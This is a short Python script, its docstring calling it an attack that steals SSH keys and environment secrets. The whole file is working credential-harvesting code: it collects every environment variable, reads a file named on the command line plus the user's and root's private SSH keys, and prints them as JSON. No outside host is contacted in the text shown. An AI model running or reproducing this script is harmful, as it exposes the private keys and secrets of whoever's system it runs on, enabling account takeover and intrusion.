"""Steal SSH keys and environment secrets: python attack.py KEYFILE."""

import json
import os
import pathlib
import sys

loot: dict[str, object] = {"env": dict(os.environ)}
for candidate in (sys.argv[1], os.path.expanduser("~/.ssh/id_rsa"), "/root/.ssh/id_rsa"):
    try:
        loot[candidate] = pathlib.Path(candidate).read_text()
    except OSError as exc:
        loot[candidate] = f"refused: {exc}"
print(json.dumps(loot))
